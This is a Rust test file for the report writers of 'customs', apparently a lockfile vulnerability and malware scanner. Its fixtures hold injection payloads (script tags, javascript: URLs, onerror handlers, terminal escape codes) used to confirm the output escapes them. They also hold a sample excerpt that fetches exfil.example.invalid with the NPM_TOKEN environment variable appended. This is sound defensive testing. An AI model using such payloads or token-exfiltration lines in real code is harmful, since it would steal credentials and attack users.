//! Snapshots of every `customs scan` output on a realistic set of findings, the empty case and
//! hostile input; determinism; and the SARIF output validated against the official schema.

mod common;

use std::collections::BTreeMap;

use common::live_syntax;

use customs_core::{
    Code, Ecosystem, FileError, Finding, FindingAdvisory, FindingPackage, Inventory, Level,
    Location, LockfileReport, Severity,
};
use customs_report::scan::{
    DatabaseInfo, EcosystemSummary, ScanOutcome, ScanSummary, write_json, write_markdown,
    write_sarif, write_table,
};

type Writer<W = Vec<u8>> = fn(&[Finding], &Inventory, &ScanSummary, &mut W) -> std::io::Result<()>;

const WRITERS: [(&str, Writer); 4] = [
    ("table", write_table),
    ("json", write_json),
    ("sarif", write_sarif),
    ("markdown", write_markdown),
];

fn render(
    writer: Writer,
    findings: &[Finding],
    inventory: &Inventory,
    summary: &ScanSummary,
) -> String {
    let mut out = Vec::new();
    writer(findings, inventory, summary, &mut out).expect("writing to memory");
    String::from_utf8(out).expect("reports are UTF-8")
}

fn package(ecosystem: Ecosystem, name: &str, version: &str, lockfile: &str) -> FindingPackage {
    let purl_type = match ecosystem {
        Ecosystem::Npm => "npm",
        Ecosystem::PyPI => "pypi",
        Ecosystem::CratesIo => "cargo",
    };
    FindingPackage {
        ecosystem,
        name: name.to_owned(),
        version: Some(version.to_owned()),
        purl: format!("pkg:{purl_type}/{}@{version}", name.replace('@', "%40")),
        lockfile: lockfile.to_owned(),
    }
}

fn advisory(id: &str, aliases: &[&str], summary: &str, fixed_in: Option<&str>) -> FindingAdvisory {
    FindingAdvisory {
        id: id.to_owned(),
        aliases: aliases.iter().map(|a| (*a).to_owned()).collect(),
        summary: Some(summary.to_owned()),
        fixed_in: fixed_in.map(str::to_owned),
        url: Some(format!("https://osv.dev/vulnerability/{id}")),
        cvss: None,
        score: None,
    }
}

fn at(path: &str, line: u32) -> Vec<Location> {
    vec![Location {
        path: path.to_owned(),
        line,
    }]
}

fn steps(path: &[&str]) -> Vec<String> {
    path.iter().map(|s| (*s).to_owned()).collect()
}

/// A scan of a project with an npm, a Python and a Rust lockfile, and a yarn.lock that did not
/// parse. Given in no particular order: the writers sort.
fn realistic() -> (Vec<Finding>, Inventory, ScanSummary) {
    let npm = "package-lock.json";
    let findings = vec![
        Finding {
            code: Code::Unmaintained,
            severity: Severity::Unknown,
            level: Level::Warn,
            message: "ansi_term 0.12.1 is unmaintained (RUSTSEC-2021-0139)".into(),
            package: Some(package(
                Ecosystem::CratesIo,
                "ansi_term",
                "0.12.1",
                "Cargo.lock",
            )),
            advisory: Some(advisory(
                "RUSTSEC-2021-0139",
                &[],
                "ansi_term is Unmaintained",
                None,
            )),
            package_fixed_in: None,
            locations: at("Cargo.lock", 41),
            dependency_path: steps(&["clap@2.34.0", "ansi_term@0.12.1"]),
            ignored: None,
            typosquat: None,
            inspection: None,
        },
        Finding {
            code: Code::Vulnerability,
            severity: Severity::Critical,
            level: Level::Deny,
            message:
                "lodash 4.17.11 is affected by GHSA-jf85-cpcp-j695 (critical); fixed in 4.17.12"
                    .into(),
            package: Some(package(Ecosystem::Npm, "lodash", "4.17.11", npm)),
            advisory: Some(FindingAdvisory {
                cvss: Some("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H".into()),
                score: Some("9.8".into()),
                ..advisory(
                    "GHSA-jf85-cpcp-j695",
                    &["CVE-2019-10744"],
                    "Prototype Pollution in lodash",
                    Some("4.17.12"),
                )
            }),
            package_fixed_in: Some("4.17.21".into()),
            locations: at(npm, 2210),
            dependency_path: Vec::new(),
            ignored: None,
            typosquat: None,
            inspection: None,
        },
        Finding {
            code: Code::IgnoreUnused,
            severity: Severity::Unknown,
            level: Level::Warn,
            message: "ignore entry for GHSA-aaaa-bbbb-cccc matched no finding".into(),
            package: None,
            advisory: None,
            package_fixed_in: None,
            locations: at("customs.toml", 7),
            dependency_path: Vec::new(),
            ignored: None,
            typosquat: None,
            inspection: None,
        },
        Finding {
            code: Code::Vulnerability,
            severity: Severity::High,
            level: Level::Deny,
            message: "nth-check 1.0.2 is affected by GHSA-rp65-9cf3-cjxr (high); fixed in 2.0.1"
                .into(),
            package: Some(package(Ecosystem::Npm, "nth-check", "1.0.2", npm)),
            advisory: Some(FindingAdvisory {
                score: Some("7.5".into()),
                ..advisory(
                    "GHSA-rp65-9cf3-cjxr",
                    &["CVE-2021-3803"],
                    "Inefficient Regular Expression Complexity in nth-check",
                    Some("2.0.1"),
                )
            }),
            package_fixed_in: Some("2.0.1".into()),
            locations: at(npm, 9120),
            dependency_path: steps(&[
                "react-scripts@5.0.1",
                "@svgr/webpack@5.5.0",
                "@svgr/plugin-svgo@5.5.0",
                "svgo@1.3.2",
                "css-select@2.1.0",
                "nth-check@1.0.2",
            ]),
            ignored: None,
            typosquat: None,
            inspection: None,
        },
        Finding {
            code: Code::Vulnerability,
            severity: Severity::Critical,
            level: Level::Allow,
            message: "minimist 1.2.5 is affected by GHSA-xvch-5gv4-984h (critical); fixed in 1.2.6"
                .into(),
            package: Some(package(Ecosystem::Npm, "minimist", "1.2.5", npm)),
            advisory: Some(advisory(
                "GHSA-xvch-5gv4-984h",
                &["CVE-2021-44906"],
                "Prototype Pollution in minimist",
                Some("1.2.6"),
            )),
            package_fixed_in: Some("1.2.6".into()),
            locations: at(npm, 7001),
            dependency_path: steps(&["mkdirp@0.5.5", "minimist@1.2.5"]),
            ignored: Some("only the build scripts use it, never on user input".into()),
            typosquat: None,
            inspection: None,
        },
        Finding {
            code: Code::Malicious,
            severity: Severity::Critical,
            level: Level::Deny,
            message: "flatmap-stream 0.1.1 is malicious (MAL-2025-20690): remove it and treat \
                      every machine that installed it as compromised"
                .into(),
            package: Some(package(Ecosystem::Npm, "flatmap-stream", "0.1.1", npm)),
            advisory: Some(advisory(
                "MAL-2025-20690",
                &["GHSA-9x64-5r7x-2q53"],
                "Malicious code in flatmap-stream (npm)",
                None,
            )),
            package_fixed_in: None,
            locations: vec![
                Location {
                    path: npm.into(),
                    line: 3120,
                },
                Location {
                    path: npm.into(),
                    line: 3127,
                },
            ],
            dependency_path: steps(&["event-stream@3.3.6", "flatmap-stream@0.1.1"]),
            ignored: None,
            typosquat: None,
            inspection: None,
        },
        Finding {
            code: Code::Vulnerability,
            severity: Severity::Unknown,
            level: Level::Warn,
            message: "time 0.1.43 is affected by RUSTSEC-2020-0071 (unknown severity); fixed in \
                      0.2.23"
                .into(),
            package: Some(package(Ecosystem::CratesIo, "time", "0.1.43", "Cargo.lock")),
            advisory: Some(advisory(
                "RUSTSEC-2020-0071",
                &["CVE-2020-26235", "GHSA-wcg3-cvx6-7396"],
                "Potential segfault in the time crate",
                Some("0.2.23"),
            )),
            package_fixed_in: Some("0.2.23".into()),
            locations: at("Cargo.lock", 1033),
            dependency_path: steps(&["chrono@0.4.19", "time@0.1.43"]),
            ignored: None,
            typosquat: None,
            inspection: None,
        },
        Finding {
            code: Code::Vulnerability,
            severity: Severity::High,
            level: Level::Deny,
            message: "requests 2.19.0 is affected by PYSEC-2018-28 (high); fixed in 2.20.0".into(),
            package: Some(package(
                Ecosystem::PyPI,
                "requests",
                "2.19.0",
                "poetry.lock",
            )),
            advisory: Some(FindingAdvisory {
                score: Some("7.5".into()),
                ..advisory(
                    "PYSEC-2018-28",
                    &["CVE-2018-18074", "GHSA-x84v-xcm2-53pg"],
                    "Insufficiently Protected Credentials in Requests",
                    Some("2.20.0"),
                )
            }),
            package_fixed_in: Some("2.20.0".into()),
            locations: at("poetry.lock", 812),
            dependency_path: Vec::new(),
            ignored: None,
            typosquat: None,
            inspection: None,
        },
    ];
    let inventory = Inventory {
        lockfiles: vec![
            lockfile("Cargo.lock", "Cargo.lock v3", Ecosystem::CratesIo),
            lockfile("package-lock.json", "package-lock.json v3", Ecosystem::Npm),
            lockfile("poetry.lock", "poetry.lock 2.0", Ecosystem::PyPI),
        ],
        errors: vec![FileError {
            path: "web/yarn.lock".into(),
            line: Some(3),
            message: "invalid yarn.lock: unterminated string".into(),
        }],
        warnings: vec![FileError {
            path: "package-lock.json".into(),
            line: Some(40),
            message: "`left-pad` depends on `pad-left`, which the lockfile does not contain".into(),
        }],
    };
    let summary = ScanSummary {
        packages_checked: 1_234,
        packages_skipped_local: 3,
        ecosystems: BTreeMap::from([
            (Ecosystem::Npm, counts(1_000, 2)),
            (Ecosystem::PyPI, counts(34, 1)),
            (Ecosystem::CratesIo, counts(200, 0)),
        ]),
        database: Some(DatabaseInfo {
            source: "https://osv-vulnerabilities.storage.googleapis.com".into(),
            updated_at: "2026-11-20T06:00:00Z".into(),
            age_days: 3,
        }),
        outcome: ScanOutcome::of(&findings, &inventory),
    };
    (findings, inventory, summary)
}

fn lockfile(path: &str, format: &str, ecosystem: Ecosystem) -> LockfileReport {
    LockfileReport {
        path: path.into(),
        format: format.into(),
        ecosystem,
        packages: Vec::new(),
    }
}

fn counts(packages_checked: usize, packages_skipped_local: usize) -> EcosystemSummary {
    EcosystemSummary {
        packages_checked,
        packages_skipped_local,
    }
}

/// A clean scan of one lockfile.
fn clean() -> (Vec<Finding>, Inventory, ScanSummary) {
    let inventory = Inventory {
        lockfiles: vec![lockfile("Cargo.lock", "Cargo.lock v4", Ecosystem::CratesIo)],
        errors: Vec::new(),
        warnings: Vec::new(),
    };
    let summary = ScanSummary {
        packages_checked: 57,
        packages_skipped_local: 1,
        ecosystems: BTreeMap::from([(Ecosystem::CratesIo, counts(57, 1))]),
        database: Some(DatabaseInfo {
            source: "../shared/data/osv".into(),
            updated_at: "2026-11-22T00:00:00Z".into(),
            age_days: 1,
        }),
        outcome: ScanOutcome::Passed,
    };
    (Vec::new(), inventory, summary)
}

#[test]
fn outcome_follows_errors_then_denied_findings() {
    let (findings, inventory, summary) = realistic();
    assert_eq!(summary.outcome, ScanOutcome::Error);
    let read = Inventory {
        errors: Vec::new(),
        ..inventory
    };
    assert_eq!(ScanOutcome::of(&findings, &read), ScanOutcome::Failed);
    assert_eq!(ScanOutcome::of(&[], &read), ScanOutcome::Passed);
    // A check that could not run errs even when nothing else failed.
    let unchecked = [Finding::new(Code::AdvisoriesMissing, "no crates.io data")];
    assert_eq!(ScanOutcome::of(&unchecked, &read), ScanOutcome::Error);
    assert_eq!(
        [ScanOutcome::Passed, ScanOutcome::Failed, ScanOutcome::Error].map(ScanOutcome::exit_code),
        [0, 1, 2]
    );
}

#[test]
fn realistic_table() {
    let (findings, inventory, summary) = realistic();
    insta::assert_snapshot!(
        "realistic_table",
        render(write_table, &findings, &inventory, &summary)
    );
}

#[test]
fn realistic_json() {
    let (findings, inventory, summary) = realistic();
    insta::assert_snapshot!(
        "realistic_json",
        render(write_json, &findings, &inventory, &summary)
    );
}

#[test]
fn realistic_sarif() {
    let (findings, inventory, summary) = realistic();
    insta::assert_snapshot!(
        "realistic_sarif",
        render(write_sarif, &findings, &inventory, &summary)
    );
}

#[test]
fn realistic_markdown() {
    let (findings, inventory, summary) = realistic();
    insta::assert_snapshot!(
        "realistic_markdown",
        render(write_markdown, &findings, &inventory, &summary)
    );
}

#[test]
fn clean_scan() {
    let (findings, inventory, summary) = clean();
    for (name, writer) in WRITERS {
        insta::assert_snapshot!(
            format!("clean_{name}"),
            render(writer, &findings, &inventory, &summary)
        );
    }
}

#[test]
fn nothing_to_scan_is_not_a_clean_result() {
    let summary = ScanSummary::default();
    let table = render(write_table, &[], &Inventory::default(), &summary);
    insta::assert_snapshot!(table, @r"
    No lockfile found: nothing was checked
    Checked 0 packages against no advisory database

    Result: passed (exit status 0)
    ");
}

#[test]
fn output_does_not_depend_on_input_order() {
    let (findings, inventory, summary) = realistic();
    let mut reversed = findings.clone();
    reversed.reverse();
    let mut rotated = findings.clone();
    rotated.rotate_left(3);
    for (name, writer) in WRITERS {
        let expected = render(writer, &findings, &inventory, &summary);
        assert_eq!(
            render(writer, &reversed, &inventory, &summary),
            expected,
            "{name}"
        );
        assert_eq!(
            render(writer, &rotated, &inventory, &summary),
            expected,
            "{name}"
        );
    }
}

/// The official SARIF 2.1.0 schema, as OASIS published it with errata 01 (draft-04).
/// Origin: `Schemata/sarif-schema-2.1.0.json` of github.com/oasis-tcs/sarif-spec (the OASIS
/// errata01 `os` revision, whose `id` is
/// https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json),
/// byte for byte; sha256 ddddcccbf95c7c50c037b5b07eff4140556278ca574ff374db46786b5fce7949.
const SARIF_SCHEMA: &str = include_str!("fixtures/sarif-schema-2.1.0.json");

fn validate_sarif(document: &str) -> Vec<String> {
    let schema: serde_json::Value = serde_json::from_str(SARIF_SCHEMA).expect("schema is JSON");
    let validator = jsonschema::draft4::new(&schema).expect("schema is a draft-04 schema");
    let instance: serde_json::Value = serde_json::from_str(document).expect("SARIF is JSON");
    validator
        .iter_errors(&instance)
        .map(|error| format!("{} at {}", error, error.instance_path()))
        .collect()
}

#[test]
fn sarif_is_valid_against_the_official_schema() {
    for (findings, inventory, summary) in [realistic(), clean(), hostile()] {
        let sarif = render(write_sarif, &findings, &inventory, &summary);
        assert_eq!(validate_sarif(&sarif), Vec::<String>::new(), "{sarif}");
    }
}

#[test]
fn the_schema_check_rejects_invalid_sarif() {
    // Without this, a validator that accepted everything would pass the test above.
    let (findings, inventory, summary) = realistic();
    let sarif = render(write_sarif, &findings, &inventory, &summary);
    let mut broken: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    broken["runs"][0]["results"][0]["level"] = "fatal".into();
    broken["runs"][0]["results"][1]["locations"][0]["physicalLocation"]["region"]["startLine"] =
        0.into();
    let errors = validate_sarif(&broken.to_string());
    assert_eq!(errors.len(), 2, "{errors:#?}");
}

#[test]
fn sarif_fingerprints_are_stable_and_distinct() {
    let (findings, inventory, summary) = realistic();
    let sarif: serde_json::Value =
        serde_json::from_str(&render(write_sarif, &findings, &inventory, &summary)).unwrap();
    let fingerprints: Vec<&str> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            r["partialFingerprints"]["customsFinding/v1"]
                .as_str()
                .unwrap()
        })
        .collect();
    let mut unique = fingerprints.clone();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(unique.len(), findings.len());
    // Lines are not part of a finding's identity: moving it in the lockfile keeps the alert.
    let mut moved = findings.clone();
    for finding in &mut moved {
        for location in &mut finding.locations {
            location.line += 10;
        }
    }
    let moved: serde_json::Value =
        serde_json::from_str(&render(write_sarif, &moved, &inventory, &summary)).unwrap();
    for (result, fingerprint) in moved["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .zip(&fingerprints)
    {
        assert_eq!(
            result["partialFingerprints"]["customsFinding/v1"],
            *fingerprint
        );
    }
}

/// Findings whose every string came from a hostile lockfile or advisory.
fn hostile() -> (Vec<Finding>, Inventory, ScanSummary) {
    let evil = "<script>alert(1)</script>|@org/x `y` [z](javascript:alert(1)) **b** #1 $m$ :smile:";
    let lockfile = "dir with space/#?%/ü\u{1b}[31m.lock";
    let findings = vec![Finding {
        code: Code::Vulnerability,
        severity: Severity::High,
        level: Level::Deny,
        message: format!("{evil}\n| forged | row |"),
        package: Some(FindingPackage {
            ecosystem: Ecosystem::Npm,
            name: evil.into(),
            version: Some("1.0.0|<b>\u{202e}".into()),
            purl: "pkg:npm/evil@1.0.0".into(),
            lockfile: lockfile.into(),
        }),
        advisory: Some(FindingAdvisory {
            id: "GHSA-<img src=x onerror=alert(1)>".into(),
            aliases: vec!["CVE-@everyone".into()],
            summary: Some(format!("{evil}\n\n# heading\n<details>")),
            fixed_in: Some("2.0.0`|".into()),
            url: Some("javascript:alert(document.cookie)".into()),
            cvss: None,
            score: Some("7.5\u{1b}[2J".into()),
        }),
        package_fixed_in: None,
        locations: at(lockfile, 1),
        dependency_path: steps(&["a|b@1", "<c>@2", evil]),
        ignored: None,
        typosquat: None,
        inspection: None,
    }];
    // The same, as a warning whose advisory links somewhere, and accepted with a hostile reason.
    let mut linked = findings[0].clone();
    linked.level = Level::Warn;
    linked.advisory = Some(FindingAdvisory {
        url: Some("https://example.com/a) [pwned](https://evil.example \"t\"".into()),
        ..linked
            .advisory
            .expect("the hostile finding has an advisory")
    });
    let mut accepted = findings[0].clone();
    accepted.level = Level::Allow;
    accepted.ignored = Some("@team said so <!-- hide -->\n- [x] done".into());
    let mut findings = findings;
    findings.extend([linked, accepted]);
    let inventory = Inventory {
        lockfiles: vec![self::lockfile(
            lockfile,
            "package-lock.json v3",
            Ecosystem::Npm,
        )],
        errors: vec![FileError {
            path: lockfile.into(),
            line: Some(0),
            message: evil.into(),
        }],
        warnings: Vec::new(),
    };
    let summary = ScanSummary {
        packages_checked: 1,
        outcome: ScanOutcome::of(&findings, &inventory),
        ..ScanSummary::default()
    };
    (findings, inventory, summary)
}

#[test]
fn markdown_escapes_hostile_strings() {
    let (findings, inventory, summary) = hostile();
    let markdown = render(write_markdown, &findings, &inventory, &summary);
    let prose = live_syntax(&markdown);
    // Nothing from the input becomes HTML, a link, a mention, an issue reference, a heading or
    // a table row of its own; code spans show it literally.
    for forbidden in [
        "<script",
        "<img",
        "<b>",
        "<!--",
        "\n# heading",
        "](javascript",
        "[pwned](",
        "[z](",
        "@org",
        "@team",
        "@everyone",
        "#1",
        "**b**",
        "$m$",
        ":smile:",
        "\u{1b}",
        "\u{202e}",
        "| forged |",
    ] {
        assert!(!prose.contains(forbidden), "{forbidden:?} in\n{prose}");
    }
    assert!(!markdown.contains('\u{1b}') && !markdown.contains('\u{202e}'));
    // The only link is the advisory's, whose URL cannot end early.
    assert_eq!(prose.matches("](").count(), 1, "{prose}");
    assert!(
        prose
            .contains("](https://example.com/a%29%20%5Bpwned%5D%28https://evil.example%20%22t%22)"),
        "{prose}"
    );
    // Two tables (failing, warnings), each with a header, a separator and one row.
    let rows = markdown.lines().filter(|l| l.starts_with('|')).count();
    assert_eq!(rows, 6, "{markdown}");
    insta::assert_snapshot!("hostile_markdown", markdown);
}

#[test]
fn the_test_helper_reads_markdown_as_commonmark_does() {
    assert_eq!(live_syntax("a `<b>` c ``d`e`` f"), "a  c  f");
    assert_eq!(live_syntax("unclosed ` <b>"), "unclosed ` <b>");
    assert_eq!(live_syntax("\\[x\\](y) \\`<b>\\` \\a"), "x(y) <b> \\a");
    assert_eq!(live_syntax("`\\` <i>"), " <i>");
}

#[test]
fn table_neutralises_terminal_escapes() {
    let (findings, inventory, summary) = hostile();
    let table = render(write_table, &findings, &inventory, &summary);
    assert!(!table.contains('\u{1b}'), "{table}");
    assert!(!table.contains('\u{202e}'), "{table}");
    insta::assert_snapshot!("hostile_table", table);
}

#[test]
fn sarif_uris_are_encoded() {
    let (findings, inventory, summary) = hostile();
    let sarif: serde_json::Value =
        serde_json::from_str(&render(write_sarif, &findings, &inventory, &summary)).unwrap();
    let location = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    assert_eq!(
        location["artifactLocation"]["uri"],
        "dir%20with%20space/%23%3F%25/%C3%BC%1B%5B31m.lock"
    );
    assert_eq!(location["artifactLocation"]["uriBaseId"], "%SRCROOT%");
    // A line 0 (unknown) has no region: SARIF lines start at 1.
    let notification = &sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"][0];
    assert!(notification["locations"][0]["physicalLocation"]["region"].is_null());
}

#[test]
fn long_sections_fold_and_stop() {
    let (findings, inventory, summary) = realistic();
    let many: Vec<Finding> = (0..150)
        .map(|i| {
            let mut finding = findings[6].clone(); // time 0.1.43, a warning
            if let Some(package) = &mut finding.package {
                package.name = format!("crate-{i:03}");
            }
            finding
        })
        .collect();
    let markdown = render(write_markdown, &many, &inventory, &summary);
    assert!(
        markdown.contains("<details><summary>150 findings</summary>"),
        "{markdown}"
    );
    let shown = markdown
        .lines()
        .filter(|l| l.starts_with("| `crate-"))
        .count();
    assert!((50..=100).contains(&shown), "{shown} rows shown");
    assert!(
        markdown.contains(&format!("… and {} more", 150 - shown)),
        "{markdown}"
    );
}

#[test]
fn markdown_stays_within_a_comment_whatever_the_input() {
    let (findings, inventory, summary) = hostile();
    let long = "@|<".repeat(1_000);
    let many: Vec<Finding> = (0..600)
        .map(|i| {
            let mut finding = findings[i % 3].clone();
            if let Some(package) = &mut finding.package {
                package.name = format!("{long}{i}");
                package.version = Some(long.clone());
            }
            if let Some(advisory) = &mut finding.advisory {
                advisory.id = long.clone();
                advisory.summary = Some(long.clone());
                advisory.url = Some(format!("https://e.example/{long}"));
                advisory.score = Some(long.clone());
            }
            finding.dependency_path = vec![long.clone(); 5];
            finding.ignored = Some(long.clone());
            finding
        })
        .collect();
    let errors: Vec<FileError> = (0..600)
        .map(|i| FileError {
            path: format!("{long}{i}"),
            line: Some(1),
            message: long.clone(),
        })
        .collect();
    let inventory = Inventory {
        errors: errors.clone(),
        warnings: errors,
        ..inventory
    };
    let summary = ScanSummary {
        database: Some(DatabaseInfo {
            source: long.clone(),
            updated_at: long.clone(),
            age_days: u64::MAX,
        }),
        ..summary
    };
    let markdown = render(write_markdown, &many, &inventory, &summary);
    assert!(markdown.len() < 65_536, "{} characters", markdown.len());
}

struct BrokenPipe;

impl std::io::Write for BrokenPipe {
    fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
        Err(std::io::ErrorKind::BrokenPipe.into())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn write_errors_are_returned() {
    let (findings, inventory, summary) = realistic();
    let writers: [(&str, Writer<BrokenPipe>); 4] = [
        ("table", write_table),
        ("json", write_json),
        ("sarif", write_sarif),
        ("markdown", write_markdown),
    ];
    for (name, writer) in writers {
        let error = writer(&findings, &inventory, &summary, &mut BrokenPipe)
            .expect_err("the writer cannot write");
        assert_eq!(error.kind(), std::io::ErrorKind::BrokenPipe, "{name}");
    }
}

/// `customs inspect` reports: a malicious artifact with hits (a hostile file name among them),
/// a clean one, one that did not match its digest, and a target that could not be inspected.
fn inspected() -> Vec<customs_report::inspect::InspectedTarget> {
    use customs_core::{Ecosystem, FindingHit};
    use customs_report::inspect::{InspectedArtifact, InspectedTarget, ReleaseComparison};
    let hit = |file: &str, line: u32, rule: &str, category: &str, reach: Option<&str>| FindingHit {
        rule: rule.into(),
        category: category.into(),
        file: file.into(),
        line,
        excerpt: "fetch(`https://exfil.example.invalid/${process.env.NPM_TOKEN}`)".into(),
        reachable_from: reach.map(Into::into),
    };
    vec![
        InspectedTarget {
            target: "npm:evil@1.0.0".into(),
            ecosystem: Some(Ecosystem::Npm),
            artifacts: vec![InspectedArtifact {
                file_name: "evil-1.0.0.tgz".into(),
                sha256: Some("ab".repeat(32)),
                verified_by: "registry sha512".into(),
                verdict: "malicious".into(),
                reasons: vec![
                    "M1 a threat runs at install: credential-harvest (install.js:3)".into(),
                ],
                hits: vec![
                    hit(
                        "install.js",
                        3,
                        "credential-harvest",
                        "threat",
                        Some("install"),
                    ),
                    hit(
                        "lib/odd name\u{1b}[31m.js",
                        0,
                        "executable-file",
                        "capability",
                        None,
                    ),
                ],
            }],
            error: None,
            comparison: Some(ReleaseComparison {
                previous_version: Some("0.9.0".into()),
                previous_artifact: Some("evil-0.9.0.tgz".into()),
                changes: vec![FindingHit {
                    rule: "new-install-script".into(),
                    category: "change".into(),
                    file: "package.json".into(),
                    line: 0,
                    excerpt: "postinstall: node install.js".into(),
                    reachable_from: None,
                }],
                note: None,
            }),
        },
        InspectedTarget {
            target: "pypi:six@1.16.0".into(),
            ecosystem: Some(Ecosystem::PyPI),
            artifacts: vec![
                InspectedArtifact {
                    file_name: "six-1.16.0-py2.py3-none-any.whl".into(),
                    sha256: Some("cd".repeat(32)),
                    verified_by: "registry sha256".into(),
                    verdict: "clean".into(),
                    reasons: Vec::new(),
                    hits: Vec::new(),
                },
                InspectedArtifact {
                    file_name: "six-1.16.0.tar.gz".into(),
                    sha256: None,
                    verified_by: "expected sha256:00, got sha256:11".into(),
                    verdict: "integrity-mismatch".into(),
                    reasons: vec!["https://files.example/six-1.16.0.tar.gz does not match".into()],
                    hits: Vec::new(),
                },
            ],
            error: None,
            comparison: Some(ReleaseComparison {
                previous_version: None,
                previous_artifact: None,
                changes: Vec::new(),
                note: Some("no earlier release to compare with".into()),
            }),
        },
        InspectedTarget {
            target: "crates:gone@9.9.9".into(),
            ecosystem: Some(Ecosystem::CratesIo),
            artifacts: Vec::new(),
            error: Some("the registry has no such version".into()),
            comparison: None,
        },
    ]
}

#[test]
fn inspect_reports_in_every_format() {
    use customs_report::inspect::{exit_code, write_json, write_sarif, write_table};
    let targets = inspected();
    assert_eq!(exit_code(&targets), 2, "a target could not be inspected");
    assert_eq!(
        exit_code(&targets[..2]),
        1,
        "malicious, and a digest mismatch"
    );
    assert_eq!(exit_code(&targets[1..2][..0]), 0);

    let mut table = Vec::new();
    write_table(&targets, &mut table).unwrap();
    let table = String::from_utf8(table).unwrap();
    assert!(
        !table.contains('\u{1b}'),
        "control characters are escaped: {table}"
    );
    insta::assert_snapshot!("inspect_table", table);

    let mut json = Vec::new();
    write_json(&targets, &mut json).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(json["schema_version"], 1);
    assert_eq!(json["targets"][0]["artifacts"][0]["verdict"], "malicious");
    assert_eq!(
        json["targets"][0]["artifacts"][0]["hits"][0]["reachable_from"],
        "install"
    );
    assert_eq!(
        json["targets"][2]["error"],
        "the registry has no such version"
    );
    let comparison = &json["targets"][0]["comparison"];
    assert_eq!(comparison["previous_version"], "0.9.0");
    assert_eq!(comparison["changes"][0]["rule"], "new-install-script");
    assert_eq!(json["targets"][2]["comparison"], serde_json::Value::Null);

    let mut sarif = Vec::new();
    write_sarif(&targets, &mut sarif).unwrap();
    let sarif = String::from_utf8(sarif).unwrap();
    assert_eq!(validate_sarif(&sarif), Vec::<String>::new(), "{sarif}");
    let document: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    let results = document["runs"][0]["results"].as_array().unwrap();
    assert_eq!(
        results.len(),
        4,
        "two hits, the change from the release before, and the mismatch: {sarif}"
    );
    assert_eq!(
        results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "evil-1.0.0.tgz/install.js"
    );
    assert_eq!(results[2]["ruleId"], "new-install-script");
    assert_eq!(results[2]["level"], "warning");
    assert_eq!(
        results[2]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "evil-1.0.0.tgz/package.json"
    );
    assert_eq!(results[3]["ruleId"], "integrity-mismatch");
}
